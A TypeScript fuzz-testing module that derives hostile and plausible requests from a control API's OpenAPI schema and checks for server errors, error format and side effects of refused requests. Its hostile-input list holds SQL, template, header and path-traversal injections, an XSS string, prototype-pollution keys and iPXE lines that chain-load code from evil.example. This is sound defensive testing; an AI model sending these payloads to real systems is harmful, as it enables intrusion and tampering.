/**
 * Property-based fuzzing of the control API from its own OpenAPI document:
 * for every operation, fast-check generates path parameters, query strings
 * and JSON bodies from the documented schemas, mostly plausible with hostile
 * values mixed in at every level (NUL, lone surrogates, 64 KiB strings, deep
 * nesting, `__proto__`/`constructor` keys, SQL and iPXE metacharacters, huge
 * numbers, wrong JSON types, repeated and unknown query parameters). Each
 * answer must be below 500, every error problem+json, and a refused request
 * must change nothing: the change feed's position stays put and a refused
 * create leaves no resource. Used by tests/integration/fuzz.test.ts (fixed
 * seed, bounded runs) and scripts/fuzz.ts (longer runs).
 */
import fc from "fast-check";
import { type Answer, type Call, type Target, tokenFor } from "./targets";

const METHODS = ["get", "put", "post", "delete", "patch"] as const;
const PROBLEM = /^application\/problem\+json\b/;
/** OAuth errors follow RFC 6749 §5.2 ({error, error_description}), not problem+json. */
const OAUTH_PATHS = new Set(["/auth/v1/token"]);

// biome-ignore lint/suspicious/noExplicitAny: JSON Schema documents are walked loosely.
export type Schema = Record<string, any>;
interface Param {
  name: string;
  in: string;
  required?: boolean;
  schema?: Schema;
}
interface Operation {
  parameters?: Param[];
  requestBody?: { content: Record<string, { schema: Schema }> };
}
export interface OpenApiDoc {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, Schema> };
}

export interface FuzzOperation {
  name: string;
  method: string;
  path: string;
  pathParams: Param[];
  queryParams: Param[];
  body?: Schema;
}

/** Every documented operation. */
export function operationsOf(doc: OpenApiDoc): FuzzOperation[] {
  return Object.entries(doc.paths).flatMap(([path, item]) =>
    METHODS.filter((m) => item[m]).map((m) => {
      const op = item[m]!;
      const content = op.requestBody?.content ?? {};
      const json = content["application/json"] ?? content["application/merge-patch+json"];
      return {
        name: `${m.toUpperCase()} ${path}`,
        method: m.toUpperCase(),
        path,
        pathParams: (op.parameters ?? []).filter((p) => p.in === "path"),
        queryParams: (op.parameters ?? []).filter((p) => p.in === "query"),
        body: json?.schema,
      };
    }),
  );
}

// ---------- hostile values ----------

const LONG = "x".repeat(64 * 1024);
/** Strings meant to break something: storage, SQL, iPXE scripts, paths, parsers. */
export const HOSTILE_STRINGS = [
  "\u0000",
  "a\u0000b",
  "\ud800",
  "x\udfff",
  "\udc00\ud800",
  "'; DROP TABLE components; --",
  "' OR '1'='1",
  '"',
  "\\",
  "%00",
  "%s%n%x",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection attempt, sent as is.
  "${7*7}{{7*7}}",
  "#!ipxe\nshell",
  "x\nkernel http://evil.example/k\nboot",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an iPXE variable, sent as is.
  "${net0/mac} && chain http://evil.example",
  "\r\nX-Injected: 1",
  "../../../etc/passwd",
  "<script>alert(1)</script>",
  "😀",
  "\u202e\ufeff\uffff",
  " ",
  "",
  "-1",
  "1e309",
  "__proto__",
  "constructor",
  "9".repeat(400),
  LONG,
  "\u0000".repeat(1024),
];
/**
 * The ones short enough for a URL: Node refuses request heads over 16 KiB
 * (431, before the app sees them), and a query may carry a dozen of these.
 */
const URL_HOSTILE = HOSTILE_STRINGS.filter((s) => s.length <= 400);
/** Numbers in query strings, where every filter value is text: beyond integer columns, signs, exponents. */
const HOSTILE_NUMERALS = [
  "99999999999999999999",
  "2147483648",
  "9007199254740993",
  "-1",
  "1e309",
  "0x10",
  "1.5",
  "NaN",
];
export const HOSTILE_NUMBERS = [-1, -0.5, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, 1e308, -1e308, 1e-300];
const WRONG_TYPES: unknown[] = [null, true, false, 0, -1, "x", [], {}, [[[]]], { a: { b: {} } }];

/** A value nested `n` levels deep, alternating arrays and objects. */
function nested(n: number): unknown {
  let v: unknown = "deep";
  for (let i = 0; i < n; i++) v = i % 2 ? [v] : { a: v };
  return v;
}

/** Adds own `__proto__` / `constructor` keys, which JSON.stringify writes like any other key. */
function withPrototypeKeys(o: unknown): unknown {
  if (o === null || typeof o !== "object" || Array.isArray(o)) return o;
  const out = { ...(o as Record<string, unknown>) };
  Object.defineProperty(out, "__proto__", { value: { isAdmin: true, polluted: 1 }, enumerable: true });
  Object.defineProperty(out, "constructor", { value: { prototype: { polluted: 1 } }, enumerable: true });
  return out;
}

const hostileString = fc.constantFrom(...HOSTILE_STRINGS);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(...HOSTILE_NUMBERS),
  fc.constantFrom(...WRONG_TYPES),
  fc.constantFrom(nested(40), nested(200)),
);

// ---------- schemas → arbitraries ----------

class SchemaArbitraries {
  constructor(
    private readonly doc: OpenApiDoc,
    /** Ids that exist on the target, by nothing in particular: candidates for id-like strings. */
    private readonly known: () => string[],
    /** Whether values may be long (bodies) or must fit in a URL (query strings). */
    private readonly long = true,
  ) {}

  private resolve(s: Schema | undefined): Schema {
    let out = s ?? {};
    for (let i = 0; i < 10 && typeof out.$ref === "string"; i++)
      out = this.doc.components.schemas[out.$ref.split("/").pop()!] ?? {};
    if (Array.isArray(out.allOf)) {
      const merged: Schema = {};
      for (const part of out.allOf) Object.assign(merged, this.resolve(part));
      const { allOf: _, ...rest } = out;
      out = { ...merged, ...rest };
    }
    return out;
  }

  /** Mostly what the schema allows, sometimes something hostile at this node. */
  value(schema: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
    const plausible = this.plausible(schema, depth);
    return fc.oneof({ weight: 8, arbitrary: plausible }, { weight: 1, arbitrary: hostileValue });
  }

  /** Values the schema allows (or nearly: patterns and bounds are tried, not guaranteed). */
  plausible(schema: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
    const s = this.resolve(schema);
    if (depth > 6) return fc.constant(null);
    if (s.const !== undefined) return fc.constant(s.const);
    if (Array.isArray(s.enum) && s.enum.length) return fc.constantFrom(...s.enum);
    const alts = s.anyOf ?? s.oneOf;
    if (Array.isArray(alts) && alts.length)
      return fc.oneof(...alts.map((a: Schema) => this.plausible(a, depth + 1)));
    const types: string[] = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
    const nonNull = types.filter((t) => t !== "null");
    const base = this.ofType(nonNull[0] ?? (s.properties ? "object" : undefined), s, depth);
    return types.includes("null") ? fc.oneof({ weight: 4, arbitrary: base }, fc.constant(null)) : base;
  }

  private ofType(type: string | undefined, s: Schema, depth: number): fc.Arbitrary<unknown> {
    switch (type) {
      case "string":
        return this.string(s);
      case "integer":
        return fc.integer({
          min: Math.max(s.minimum ?? -5, Number.MIN_SAFE_INTEGER),
          max: Math.min(s.maximum ?? 5000, Number.MAX_SAFE_INTEGER),
        });
      case "number":
        return fc.double({
          min: s.minimum ?? -1e6,
          max: s.maximum ?? 1e6,
          noNaN: true,
          noDefaultInfinity: true,
        });
      case "boolean":
        return fc.boolean();
      case "array":
        return fc.array(this.value(s.items, depth + 1), {
          minLength: Math.min(s.minItems ?? 0, 3),
          maxLength: Math.min(s.maxItems ?? 3, 3),
        });
      case "object":
        return this.object(s, depth);
      default:
        return fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.boolean(), fc.constant(null));
    }
  }

  private string(s: Schema): fc.Arbitrary<string> {
    const options: fc.Arbitrary<string>[] = [];
    if (typeof s.example === "string") options.push(fc.constant(s.example));
    if (s.format === "date-time")
      options.push(
        fc
          .date({ min: new Date("2000-01-01"), max: new Date("2100-01-01"), noInvalidDate: true })
          .map((d) => d.toISOString()),
      );
    else if (s.format === "uuid") options.push(fc.uuid());
    else if (s.format === "ipv4") options.push(fc.ipV4());
    else if (typeof s.pattern === "string") {
      try {
        const re = new RegExp(s.pattern);
        options.push(fc.stringMatching(re).filter((v) => v.length <= (s.maxLength ?? 255)));
        // Long strings that still match: where only the pattern bounds a value, the column may not.
        if (this.long) options.push(fc.stringMatching(re, { size: "xlarge" }));
      } catch {
        // A pattern JavaScript cannot compile: the other generators still run.
      }
    }
    const known = this.known();
    if (known.length && (typeof s.pattern === "string" || /id|name/i.test(s.description ?? "")))
      options.push(fc.constantFrom(...known));
    options.push(fc.string({ minLength: s.minLength ?? 0, maxLength: Math.min(s.maxLength ?? 24, 24) }));
    return fc.oneof(...options);
  }

  private object(s: Schema, depth: number): fc.Arbitrary<unknown> {
    const props: Record<string, Schema> = s.properties ?? {};
    const required: string[] = Array.isArray(s.required) ? s.required : [];
    const shape: Record<string, fc.Arbitrary<unknown>> = {};
    for (const [k, v] of Object.entries(props)) shape[k] = this.value(v, depth + 1);
    const record = fc.record(shape, { requiredKeys: required.filter((k) => k in shape) });
    const extra =
      s.additionalProperties && typeof s.additionalProperties === "object"
        ? fc.dictionary(
            fc.string({ minLength: 1, maxLength: 8 }),
            this.value(s.additionalProperties, depth + 1),
            {
              maxKeys: 3,
            },
          )
        : fc.constant({});
    return fc
      .tuple(record, extra, fc.integer({ min: 0, max: 19 }), fc.string({ maxLength: 6 }))
      .map(([r, more, dice, unknownKey]) => {
        const o: Record<string, unknown> = { ...more, ...(r as Record<string, unknown>) };
        if (dice === 0) return withPrototypeKeys(o);
        if (dice === 1) o[`unknown${unknownKey}`] = 1;
        if (dice === 2) {
          const k = Object.keys(o)[0];
          if (k !== undefined) delete o[k];
        }
        return o;
      });
  }
}

// ---------- requests ----------

export interface FuzzCase {
  method: string;
  /** Concrete path with its query string. */
  url: string;
  /** JSON text, or undefined for no body. */
  body?: string;
  contentType?: string;
  ifMatch?: string;
}

/** encodeURIComponent, which throws on lone surrogates: those are sent as their U+FFFD a URL would carry. */
const encode = (s: string) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, "\ufffd"));

/** The arbitrary of requests for one operation. */
function caseArbitrary(
  op: FuzzOperation,
  gen: SchemaArbitraries,
  query: SchemaArbitraries,
  pathValues: () => string[],
): fc.Arbitrary<FuzzCase> {
  const pathArbs = op.pathParams.map((p) =>
    fc.oneof(
      {
        weight: 6,
        arbitrary: fc.constantFrom(
          ...pathValues(),
          ...(p.schema?.example ? [String(p.schema.example)] : []),
          "nope-404",
        ),
      },
      { weight: 2, arbitrary: fc.constantFrom(...URL_HOSTILE) },
      { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
    ),
  );
  // Each parameter is absent most of the time, so that a list query often gets past validation.
  const queryArbs = op.queryParams.map((p) =>
    fc.oneof(
      { weight: 6, arbitrary: fc.constant(null) },
      {
        weight: 2,
        arbitrary: /^(limit|offset)$/.test(p.name)
          ? fc.nat({ max: 200 }).map(String)
          : query.plausible(p.schema).map((v) => (typeof v === "string" ? v : JSON.stringify(v))),
      },
      { weight: 1, arbitrary: fc.constantFrom(...URL_HOSTILE, ...HOSTILE_NUMERALS) },
    ),
  );
  // A third of the bodies are plausible throughout, so that writes get past validation and reach the stores.
  const bodyArb: fc.Arbitrary<unknown> = op.body
    ? fc.oneof(
        { weight: 5, arbitrary: gen.plausible(op.body) },
        { weight: 9, arbitrary: gen.value(op.body) },
        { weight: 1, arbitrary: hostileValue },
      )
    : fc.option(hostileValue, { freq: 4 });
  return fc
    .tuple(fc.tuple(...pathArbs), fc.tuple(...queryArbs), bodyArb, fc.integer({ min: 0, max: 11 }))
    .map(([pathVals, queryVals, body, dice]) => {
      let url = op.path;
      op.pathParams.forEach((p, i) => {
        url = url.replace(`{${p.name}}`, encode(pathVals[i] as string));
      });
      const q: string[] = [];
      op.queryParams.forEach((p, i) => {
        const v = queryVals[i];
        if (v === null || v === undefined) return;
        q.push(`${encode(p.name)}=${encode(v)}`);
        if (dice === 0) q.push(`${encode(p.name)}=${encode(v)}`); // repeated
      });
      if (dice === 1) q.push("unknownParam=1");
      if (q.length) url += `?${q.join("&")}`;
      // fetch cannot send a body with GET.
      if ((body === null && !op.body) || op.method === "GET") return { method: op.method, url };
      return {
        method: op.method,
        url,
        body: JSON.stringify(body) ?? "null",
        contentType: op.method === "PATCH" && dice % 2 ? "application/merge-patch+json" : "application/json",
        // Writes that need If-Match get `*` half the time, so that their bodies reach the stores.
        ifMatch: dice % 2 === 0 && op.method !== "POST" ? "*" : undefined,
      };
    });
}

// ---------- running ----------

export interface FuzzStats {
  target: string;
  operations: number;
  cases: number;
  byStatus: Record<number, number>;
  serverErrors: number;
  failures: string[];
  ms: number;
}

export interface FuzzOptions {
  seed: number;
  /** Cases per operation. */
  runs: number;
  /** Progress lines (one per operation) when set. */
  log?: (line: string) => void;
}

const short = (s: string | undefined, n = 300) =>
  s === undefined ? "" : s.length > n ? `${s.slice(0, n)}… (${s.length} chars)` : s;

/** The change feed's position: a refused request must leave it where it was. */
async function feedHead(call: Call): Promise<number> {
  const a = await call("GET", "/events/v1/changes?after=0&limit=1");
  if (a.status !== 200) throw new Error(`feed: ${a.status} ${a.text}`);
  return a.json.metadata.head as number;
}

/**
 * Scans and power transitions run in the background (the control plane's
 * own agent) and record their progress in the feed at any time: their
 * updates, and their creation unless the request itself creates them, are
 * not the refused request's doing.
 */
function isBackground(type: string, path: string): boolean {
  const m = /^chamicore\.(discovery\.scans|power\.transitions)\.(\w+)$/.exec(type);
  if (!m) return false;
  const creates = /^\/(discovery\/v1\/scans|power\/v1\/(transitions|actions\/))/.test(path);
  return m[2] !== "created" || !creates;
}

/** The types of the events written after `after` that the request at `path` could have written. */
async function ownEvents(call: Call, after: number, path: string): Promise<string[]> {
  const a = await call("GET", `/events/v1/changes?after=${after}&limit=1000`);
  if (a.status !== 200) return [`feed: ${a.status}`];
  return (a.json.items as { type: string; subject: string }[])
    .filter((e) => !isBackground(e.type, path))
    .map((e) => `${e.type} ${e.subject}`);
}

/** The id a create answer names (envelope metadata, or a plain id). */
const createdId = (a: Answer): string | undefined => a.json?.metadata?.id ?? a.json?.id ?? a.json?.spec?.id;

/** The item route of a collection (`/x` → `/x/{id}`), when the document has one. */
function itemPathOf(ops: FuzzOperation[], collection: string): string | undefined {
  return ops.find(
    (o) =>
      o.method === "GET" &&
      o.pathParams.length === 1 &&
      o.path.startsWith(`${collection}/{`) &&
      o.path.split("/").length === collection.split("/").length + 1,
  )?.path;
}

/**
 * Fuzzes every operation of the target's document. Operations run in
 * document order, each with `runs` cases from its own seeded stream, so a
 * failure replays from the seed alone.
 */
export async function fuzzTarget(target: Target, opts: FuzzOptions): Promise<FuzzStats> {
  const started = performance.now();
  let token = target.adminToken;
  /** The target's call with the fuzzer's token, taken anew when a case (a key rotation) ended it. */
  const call: Call = async (method, url, init = {}) => {
    const a = await target.call(method, url, { ...init, token });
    if (a.status !== 401 || init.token === null) return a;
    token = await tokenFor(
      target.call,
      target.env.CHAMICORE_BOOTSTRAP_CLIENT_ID,
      target.env.CHAMICORE_BOOTSTRAP_CLIENT_SECRET,
    );
    return target.call(method, url, { ...init, token });
  };
  const docAnswer = await call("GET", "/api/openapi.json", { token: null });
  const doc = docAnswer.json as OpenApiDoc;
  const ops = operationsOf(doc);
  const known = new Set<string>([
    "x1000c0s0b0n0",
    "x1000c0s0b0",
    "rack1",
    "payload-compute",
    "operator",
    "viewer",
  ]);
  const knownList = () => [...known];
  const gen = new SchemaArbitraries(doc, knownList);
  const query = new SchemaArbitraries(doc, knownList, false);
  const stats: FuzzStats = {
    target: target.name,
    operations: 0,
    cases: 0,
    byStatus: {},
    serverErrors: 0,
    failures: [],
    ms: 0,
  };

  // Resources the plausible path values name, so that writes reach the stores.
  for (const [path, body] of [
    ["/hsm/v2/State/Components", { id: "x1000c0s0b0", type: "NodeBMC" }],
    [
      "/hsm/v2/State/Components",
      {
        id: "x1000c0s0b0n0",
        parentId: "x1000c0s0b0",
        role: "Compute",
        nid: 1,
        interfaces: [{ id: "x1000c0s0b0n0", macAddress: "a4:bf:01:38:ee:65" }],
      },
    ],
    ["/hsm/v2/groups", { name: "x1000c0s0b0n0", members: ["x1000c0s0b0n0"] }],
    ["/hsm/v2/partitions", { name: "x1000c0s0b0n0" }],
    [
      "/auth/v1/credentials",
      { id: "bmc-east", name: "east", type: "redfish", username: "root", secret: "fuzz-secret" },
    ],
    ["/auth/v1/service-accounts", { id: "ci-pipeline", roles: ["viewer"] }],
    ["/power/v1/bmcs", { id: "x1000c0s0b0", address: "https://127.0.0.1:9", credentialId: "bmc-east" }],
    [
      "/discovery/v1/targets",
      { id: "rack1", name: "rack 1", addresses: ["https://127.0.0.1:9"], credentialId: "bmc-east" },
    ],
    ["/cloud-init/payloads", { id: "payload-compute", role: "Compute", userData: "#cloud-config\n{}\n" }],
    ["/boot/v1/bootparams", { id: "bp-3f2a9c1d", role: "Compute", kernelUri: "http://images.example/k" }],
  ] as const) {
    const a = await call("POST", path, { body });
    const id = createdId(a);
    if (id) known.add(id);
  }

  const lastHead = { value: await feedHead(call) };
  for (const [i, op] of ops.entries()) {
    stats.operations++;
    const arb = caseArbitrary(op, gen, query, knownList);
    const cases = fc.sample(arb, { seed: opts.seed + i * 7919, numRuns: opts.runs });
    const itemPath =
      op.method === "POST" && op.pathParams.length === 0 ? itemPathOf(ops, op.path) : undefined;
    const statuses: number[] = [];
    for (const c of cases) {
      stats.cases++;
      const headers: Record<string, string> = {
        ...(c.contentType ? { "Content-Type": c.contentType } : {}),
        ...(c.ifMatch ? { "If-Match": c.ifMatch } : {}),
      };
      const bodyId = itemPath && c.body ? idOfBody(c.body) : undefined;
      const existedBefore =
        itemPath && bodyId !== undefined
          ? (await call("GET", itemPath.replace(/\{[^}]+\}/, encode(bodyId)), {})).status
          : undefined;
      const a = await call(c.method, c.url, { body: c.body, headers });
      stats.byStatus[a.status] = (stats.byStatus[a.status] ?? 0) + 1;
      statuses.push(a.status);
      const what = `${op.name}: ${c.method} ${short(c.url, 200)} body=${short(c.body, 200)} → ${a.status} ${short(a.text, 300)}`;
      if (a.status >= 500) {
        stats.serverErrors++;
        stats.failures.push(`5xx ${what}`);
        continue;
      }
      if (a.status >= 400 && !OAUTH_PATHS.has(op.path) && !PROBLEM.test(a.headers.get("content-type") ?? ""))
        stats.failures.push(`not problem+json ${what}`);
      if (a.status >= 200 && a.status < 300) {
        const id = createdId(a);
        if (op.method === "POST" && typeof id === "string" && id.length < 64) known.add(id);
      }
      if (c.method !== "GET") {
        const head = await feedHead(call);
        if (a.status >= 400 && head !== lastHead.value) {
          const written = await ownEvents(call, lastHead.value, op.path);
          if (written.length)
            stats.failures.push(
              `feed moved ${lastHead.value}→${head} (${written.join(", ")}) on a refused ${what}`,
            );
        }
        lastHead.value = head;
      }
      if (itemPath && bodyId !== undefined && a.status >= 400) {
        const after = (await call("GET", itemPath.replace(/\{[^}]+\}/, encode(bodyId)), {})).status;
        if (after !== existedBefore)
          stats.failures.push(`refused create changed GET ${itemPath} (${existedBefore}→${after}): ${what}`);
      }
    }
    opts.log?.(`${target.name} ${op.name}: ${statuses.sort().join(" ")}`);
  }
  stats.ms = Math.round(performance.now() - started);
  return stats;
}

/** The `id` (or `name`) a create body names, when it is a plain string fit for a path. */
function idOfBody(text: string): string | undefined {
  try {
    const v = JSON.parse(text);
    const id = v?.id ?? v?.name;
    return typeof id === "string" && id.length > 0 && id.length < 256 ? id : undefined;
  } catch {
    return undefined;
  }
}

/** One line per runtime for logs and the closing note. */
export function describeStats(s: FuzzStats): string {
  const statuses = Object.entries(s.byStatus)
    .sort(([a], [b]) => Number(a) - Number(b))
    .map(([k, v]) => `${k}×${v}`)
    .join(" ");
  const fourXX = Object.entries(s.byStatus).filter(([k]) => Number(k) >= 400 && Number(k) < 500);
  return `${s.target}: ${s.operations} operations, ${s.cases} cases, 4xx ${fourXX.reduce((n, [, v]) => n + v, 0)} (${fourXX
    .map(([k, v]) => `${k}×${v}`)
    .join(" ")}), 5xx ${s.serverErrors}; all statuses ${statuses}; ${(s.ms / 1000).toFixed(1)} s`;
}
